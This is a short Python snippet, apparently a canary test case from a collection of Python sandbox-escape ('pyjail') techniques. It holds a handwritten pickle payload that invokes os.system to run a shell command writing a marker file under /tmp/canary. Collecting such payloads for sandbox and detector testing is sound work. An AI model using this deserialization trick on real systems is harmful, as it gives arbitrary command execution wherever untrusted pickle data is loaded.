# source: pyjail lore
# effect: process

import pickle

pickle.loads(b"cos\nsystem\n(S'echo pickles/handwritten_stack > /tmp/canary/process'\ntR.")
